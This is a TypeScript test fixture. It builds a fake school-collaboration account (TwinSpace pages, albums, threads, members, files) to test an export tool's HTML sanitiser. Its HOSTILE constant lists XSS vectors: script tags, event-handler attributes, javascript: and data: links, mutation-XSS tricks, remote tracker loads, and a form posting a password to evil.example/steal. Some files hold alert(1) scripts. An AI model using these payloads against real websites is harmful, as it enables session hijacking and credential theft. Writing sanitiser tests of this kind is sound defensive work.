import { FakeAccount, TWINSPACE } from './site-fixture.ts';

/** Received HTML with everything that must not survive. */
export const HOSTILE = `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/bg.png)}</style>
<script>window.hacked = 1; document.title = 'hacked'</script><script src="https://evil.example/x.js"></script>
<p onclick="window.hacked=1" style="background:url(https://evil.example/p.png)">Pozdrav učencem</p>
<img src="x" onerror="window.hacked=1"><img src="https://evil.example/track.gif" onload="window.hacked=1" alt="tracker">
<a href="javascript:window.hacked=1">javascript link</a><a href="data:text/html,<script>window.hacked=1</script>">data link</a>
<a href=" jAvAsCrIpT&#58;window.hacked=1">odd link</a><a href="vbscript:msgbox(1)">vb</a><a href="//evil.example/rel">relative</a>
<svg onload="window.hacked=1"><script>window.hacked=1</script><image href="https://evil.example/s.png"/></svg>
<iframe srcdoc="<script>parent.hacked=1</script>"></iframe><iframe src="javascript:parent.hacked=1"></iframe>
<form action="https://evil.example/steal"><input name="password" type="password" value="geheim"><input type="hidden" name="csrf" value="s3cr3t">
<label><input type="radio" name="a" checked> Da</label><label><input type="radio" name="a"> Ne</label><select><option>Rdeča</option><option>Modra</option></select><button onclick="window.hacked=1">Send</button></form>
<object data="https://evil.example/o.swf"><param name="movie" value="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">
<math><mtext><table><mglyph><style><img src=x onerror="window.hacked=1"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">fallback</p></noscript>
<template><img src=x onerror="window.hacked=1"></template><video src="https://evil.example/v.mp4" autoplay onplay="window.hacked=1"></video>
<b><p>Krepko <i>in poševno</b></i></p><a data-kept="javascript:window.hacked=1" class="ext" rel="x" href="javascript:window.hacked=1">forged</a>
<div class="embed"><a class="ext" rel="x" href="javascript:window.hacked=1">forged card</a></div><link rel="stylesheet" href="https://evil.example/x.css">`;

/** A realistic account: spaces with every kind of content, losses, odd names, a hostile page. */
export async function sampleAccount(folder: string): Promise<FakeAccount> {
  const account = new FakeAccount(folder);
  await friends(account);
  await voices(account);
  group(account);
  await own(account);
  account.mentions.push(
    {
      address: 'https://padlet.com/ana/wall',
      foundOn: `${TWINSPACE}/1001/home`,
      text: 'Padlet',
      type: 'embed',
      space: '1001',
    },
    {
      address: 'https://blog.example/picture.jpg',
      foundOn: `${TWINSPACE}/1001/page/p1`,
      text: '',
      type: 'picture',
      space: '1001',
    },
    { address: `${TWINSPACE}/1001/whatever`, foundOn: `${TWINSPACE}/1001/home`, text: 'More', type: 'unknown-link' },
  );
  return account;
}

async function friends(account: FakeAccount): Promise<void> {
  const space = '1001';
  account.say(
    account.add({
      kind: 'space',
      space,
      number: space,
      title: 'Šola prijateljev – Friends without borders',
      createdAt: '2012-09-10',
      facts: { said: 'Active · 10. 9. 2012 · Administrator' },
    }),
    '<p>A project of four schools about friendship.</p>',
  );
  const album = account.add({
    kind: 'album',
    space,
    title: 'Obisk v Atenah',
    createdAt: '2013-04-12',
    author: 'Ana Novak',
  });
  for (let n = 0; n < 14; n += 1) {
    const picture = await account.picture(
      {
        space,
        number: `a${n}`,
        title: ['Razred 4. b na Akropoli', 'Αθήνα, η θέα', 'Kosilo', 'V šoli', 'Petra & Jože <3'][n % 5] ?? '',
        parent: album.id,
        author: n % 2 === 0 ? 'Ana Novak' : 'Γιώργος Παπαδόπουλος',
        createdAt: `2013-0${n < 10 ? 4 : 9}-1${n % 5}`,
        folder: [album.title],
        ...(n === 2 && { description: 'Kosilo v šolski jedilnici: prva skupna fotografija obeh razredov.' }),
      },
      n * 23,
      { ...(n === 5 && { original: false }) },
    );
    if (n === 0) {
      account.say(picture, '<p>Krasna slika!</p>', {
        entries: [{ author: 'Maria Rossi', createdAt: '2013-04-14', text: ['Bellissima!'] }],
      });
    }
  }
  account.add({
    kind: 'image',
    space,
    title: 'Izgubljena slika',
    parent: album.id,
    status: 'missing',
    reason: 'server-error',
    number: 'lost',
  });
  const broken = await account.store(new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 1, 2, 3]), 'image/jpeg', {
    damaged: true,
    original: true,
  });
  account.add({ kind: 'image', space, title: 'Pokvarjena', parent: album.id, binary: broken, number: 'broken' });
  account.add({ kind: 'album', space, title: 'Prazen album', number: 'empty' });
  const loose = await account.picture({ space, number: 'loose', title: 'Naslovnica', createdAt: '2012-10-01' }, 200);
  const files = [
    await account.file(
      { space, title: 'Načrt dela #1 (50 %).pdf', folder: ['Načrti', 'Šolsko leto 2012/13'] },
      'application/pdf',
    ),
    await account.file(
      { space, title: 'vprašalnik?.docx', folder: ['Načrti'] },
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    ),
    await account.file({ space, title: 'igra.html', folder: [] }, 'text/html', '<script>alert(1)</script>'),
    await account.file(
      { space, title: 'logo.svg' },
      'image/svg+xml',
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    ),
    await account.file({ space, title: 'Δελτίο τύπου.zip', folder: ['Načrti'] }, 'application/zip'),
  ];
  account.add({
    kind: 'file',
    space,
    title: 'izgubljeno.ppt',
    status: 'missing',
    reason: 'log-in-page',
    folder: ['Načrti'],
  });
  account.say(
    account.add({
      kind: 'home',
      space,
      number: space,
      title: 'Šola prijateljev – Friends without borders',
      sourceUrl: `${TWINSPACE}/1001/home`,
    }),
    `<h1>Welcome</h1><p>Dobrodošli v <b>našem</b> projektu.</p><img src="${TWINSPACE}/files/collabspace/a0_opt.jpg" alt="">`,
  );
  await pages(
    account,
    space,
    files.map((file) => `${file.sourceUrl}/download`),
    loose.number,
  );
  discussions(account, space);
  await people(account, space);
}

async function pages(account: FakeAccount, space: string, files: readonly string[], loose: string): Promise<void> {
  const top = account.add({
    kind: 'page',
    space,
    number: 'p1',
    title: 'Naše dejavnosti',
    author: 'Ana Novak',
    createdAt: '2012-10-05',
    dateAsWritten: '5. 10. 2012',
  });
  account.say(
    top,
    `<h1>Naše dejavnosti</h1><h3>Oktober: spoznavanje</h3><p>Učenci so se predstavili in zapisali prve <a href="${TWINSPACE}/1001/page/p2">vtise o Atenah</a>. Več je v <a href="${files[0]}">načrtu</a>, <a href="${files[2]}">igri</a> in na <a href="https://www.os-ljubljana.example/projekt?a=1&b=2">strani šole</a>.</p>
<p><img src="${TWINSPACE}/files/collabspace/${loose}_opt.jpg" alt="Naslovnica projekta" width="600"></p>
<h3>November: pisma</h3><ul><li>pismo v Grčijo</li><li>pismo v Italijo</li><p>in še kam</p></ul>
<table border="1"><tr><td>Ljubljana</td><td>24 učencev</td></tr><tr><td>Αθήνα</td><td>21 μαθητές</td></tr></table>
<iframe src="https://www.youtube.com/embed/abc123" title="Naš film" width="560"></iframe>
<p><a href="${TWINSPACE}/files/collabspace/a1_opt.jpg"><img src="${TWINSPACE}/files/collabspace/a1_opt.jpg" width="200"></a></p>
<p><img src="https://blog.example/picture.jpg" alt="Tuja slika"> <a href="#konec">na konec</a></p><p id="konec">Konec.</p><p><a href="${TWINSPACE}/1001/image/lost">manjka</a></p>`,
    {
      visibility: 'public',
      links: [{ address: 'https://www.os-ljubljana.example/projekt?a=1&b=2', text: 'strani šole' }],
    },
  );
  await account.receive(
    top,
    '<html><head><meta name="csrf-token" content="abcdef123"></head><body><form><input type="hidden" name="t" value="hidden-secret"></form><a href="/x?sid=998877&page=2">x</a><script>var token = "tok-12345";</script>Naše dejavnosti</body></html>',
  );
  const athens = account.say(
    account.add({
      kind: 'page',
      space,
      number: 'p2',
      title: 'Αθήνα: vtisi',
      parent: top.id,
      author: 'Γιώργος Παπαδόπουλος',
      createdAt: '2013-04-20',
    }),
    '<p>Το ταξίδι στην Αθήνα ήταν υπέροχο.</p><h2>Petek</h2><h4>Zvečer</h4><p>Večerja.</p>',
  );
  account.say(
    account.add({ kind: 'page', space, number: 'p3', title: 'What is "100%"? #1/2', parent: athens.id }),
    '<p>Odd names everywhere.</p>',
  );
  account.say(account.add({ kind: 'page', space, number: 'p4', title: 'Stran z zankami', restricted: true }), HOSTILE);
  account.say(
    account.add({ kind: 'page', space, number: 'p5', title: `Dolg naslov ${'x'.repeat(1_000_000)}` }),
    '<p>Long.</p>',
  );
  account.add({ kind: 'page', space, number: 'p6', title: 'Skrita stran', status: 'skipped', reason: 'not-visible' });
  account.add({ kind: 'page', space, number: 'p7', title: 'Izginila stran', status: 'missing', reason: 'not-found' });
}

function discussions(account: FakeAccount, space: string): void {
  account.say(
    account.add({
      kind: 'thread',
      space,
      number: 't1',
      title: 'Katera je vaša najljubša knjiga?',
      folder: ['Klepet učencev'],
      author: 'Ana Novak',
      createdAt: '2012-11-02',
    }),
    '<p>Katera je vaša najljubša knjiga?</p><p>Moja je Muca Copatarica.</p><p>Pinocchio!</p>',
    {
      entries: [
        { author: 'Ana Novak', createdAt: '2012-11-02T09:12:00+01:00', text: ['Katera je vaša najljubša knjiga?'] },
        { author: 'Luka', createdAt: '2012-11-03', text: ['Moja je Muca Copatarica.', 'Prebral sem jo trikrat.'] },
        { author: 'Giulia', dateAsWritten: '3 novembre 2012', text: ['Pinocchio!'] },
      ],
    },
  );
  account.say(
    account.add({
      kind: 'journal-entry',
      space,
      number: 'j1',
      title: 'Začeli smo!',
      author: 'Ana Novak',
      createdAt: '2012-09-20',
    }),
    '<p>Danes smo začeli.</p><p>Čestitke!</p>',
    { entries: [{ author: 'Maria Rossi', createdAt: '2012-09-21', text: ['Čestitke!'] }] },
  );
  for (const n of [1, 2]) {
    account.say(
      account.add({
        kind: 'bulletin-note',
        space,
        number: `b${n}`,
        title: `Sporočilo ${n}`,
        restricted: true,
        createdAt: '2012-09-1' + String(n),
      }),
      `<h2>Kolegom</h2><p>Sestanek ${n}.</p>`,
    );
    account.say(
      account.add({
        kind: 'meeting',
        space,
        number: `m${n}`,
        title: `Srečanje ${n}`,
        createdAt: '2013-01-1' + String(n),
      }),
      '<p>chat</p>',
      {
        text: [],
        entries: [
          { author: 'Ana', text: ['Pozdravljeni!'] },
          { author: 'Maria', text: ['Ciao!'] },
        ],
      },
    );
  }
  account.say(account.add({ kind: 'video', space, number: 'v1', title: 'Naš film', folder: ['Filmi'] }), '', {
    text: ['Naš film'],
    embeds: [{ address: 'https://www.youtube.com/watch?v=abc', title: 'Naš film', service: 'youtube.com' }],
  });
  account.say(
    account.add({
      kind: 'twinmail',
      space,
      number: 'w1',
      title: 'Prihod v petek',
      author: 'Maria Rossi',
      createdAt: '2013-03-01',
    }),
    '<p>Pridemo ob osmih.</p>',
  );
  account.say(
    account.add({ kind: 'poll', space, number: 'q1', title: 'Logotip' }),
    '<form><p>Kateri logotip?</p><label><input type="radio"> Modri (12)</label><br><label><input type="radio"> Rdeči (7)</label></form>',
  );
  account.say(
    account.add({ kind: 'board', space, number: 'o1', title: 'Tabla idej' }),
    '<div>Ideja 1</div><div>Ideja 2</div>',
  );
  account.say(
    account.add({ kind: 'project', role: 'live', number: '77', title: 'Friends without borders', facts: { space } }),
    '<p>Project profile.</p>',
    { fields: [{ label: 'Subjects', value: 'Art, Languages' }] },
  );
}

async function people(account: FakeAccount, space: string): Promise<void> {
  const ana = account.add({ kind: 'member', space, number: 'ana', title: 'Ana Novak' });
  account.say(ana, '<p>Ana Novak</p><p>OŠ Ljubljana</p>', {
    fields: [
      { label: 'School', value: 'OŠ Ljubljana' },
      { label: 'Country', value: 'Slovenia' },
    ],
  });
  await account.picture({ space, number: 'face', title: '', parent: ana.id }, 300);
  const maria = account.say(
    account.add({ kind: 'member', space, number: 'maria', title: 'Maria Rossi' }),
    '<p>Maria</p>',
    { fields: [{ label: 'School', value: 'Scuola Dante' }] },
  );
  await account.picture({ space, number: 'face2', title: 'Maria', parent: maria.id }, 40);
}

async function voices(account: FakeAccount): Promise<void> {
  const space = '1002';
  account.add({
    kind: 'space',
    space,
    number: space,
    title: 'Голоси: voices of Europe',
    createdAt: '2019-10-01',
    verdict: 'moved',
    rule: 'project-after',
  });
  const album = account.add({ kind: 'album', space, title: 'Шола' });
  for (let n = 0; n < 3; n += 1)
    await account.picture(
      { space, number: `u${n}`, title: `Zbor ${n + 1}`, parent: album.id, createdAt: '2019-12-0' + String(n + 1) },
      120 + n * 50,
    );
  account.add({
    kind: 'space',
    space: '1003',
    number: '1003',
    title: 'Closed space',
    status: 'missing',
    reason: 'space-refused',
  });
  account.say(
    account.add({ kind: 'page', space: '1004', number: 'x', title: 'Page of an unknown space' }),
    '<p>Known from elsewhere.</p>',
  );
}

function group(account: FakeAccount): void {
  const space = '12';
  account.add({
    kind: 'space',
    role: 'groups',
    space,
    number: space,
    title: 'Creative Classroom',
    verdict: 'uncertain',
    rule: 'group-boundary',
  });
  account.say(
    account.add({ kind: 'thread', role: 'groups', space, number: 'g1', title: 'Hello', createdAt: '2021-02-01' }),
    '<p>Hello</p>',
  );
}

async function own(account: FakeAccount): Promise<void> {
  const project = account.items.find((item) => item.kind === 'project');
  for (const [index, title] of ['National Quality Label', 'European Quality Label'].entries()) {
    const binary = await account.store(new TextEncoder().encode(`%PDF ${title}`), 'application/pdf', {
      originalName: `${title}.pdf`,
    });
    account.add({
      kind: 'certificate',
      title,
      binary,
      createdAt: `2014-0${index + 1}-01`,
      ...(project && { parent: project.id }),
    });
  }
  const profile = account.say(account.add({ kind: 'profile', title: 'Ana Novak' }), '<p>Teacher of art.</p>', {
    fields: [
      { label: 'School', value: 'OŠ Ljubljana' },
      { label: 'About', value: 'Teacher of art.' },
    ],
  });
  await account.picture({ title: 'me', parent: profile.id, role: 'twinspace', number: 'me' }, 20);
  for (const year of [2011, 2013, 2016])
    account.say(account.add({ kind: 'portfolio-entry', title: `Event ${year}`, createdAt: `${year}-05-05` }), '', {
      text: [`Took part in ${year}.`],
    });
  for (const box of ['inbox', 'sent']) {
    const message = account.add({
      kind: 'message',
      title: box === 'inbox' ? 'Vabilo' : 'Re: Vabilo',
      folder: [box],
      author: box === 'inbox' ? 'Maria Rossi' : 'Ana Novak',
      createdAt: '2012-08-30',
    });
    account.say(message, '<p>Draga Ana, vabim te v projekt.</p>', { fields: [{ label: 'To', value: 'Ana Novak' }] });
    if (box === 'inbox') await account.file({ title: 'vabilo.pdf', parent: message.id }, 'application/pdf');
  }
  account.add({
    kind: 'message',
    title: 'Lost message',
    folder: ['inbox'],
    status: 'missing',
    reason: 'section-closed',
  });
  for (const list of ['contacts', 'followers'])
    account.say(account.add({ kind: 'person', title: 'Maria Rossi', number: list, folder: [list] }), '', {
      text: ['Scuola Dante'],
      fields: [{ label: 'School', value: 'Scuola Dante' }],
    });
  account.say(account.add({ kind: 'resource', title: 'Didaktična igra' }), '<p>Navodila.</p>');
  account.say(account.add({ kind: 'event', title: 'Webinar', createdAt: '2016-05-05' }), '<p>Online.</p>');
  account.say(account.add({ kind: 'forum-post', title: 'Looking for partners' }), '<p>We look for partners.</p>');
  account.say(account.add({ kind: 'learning', title: 'Digital storytelling' }), '<p>Course.</p>');
}
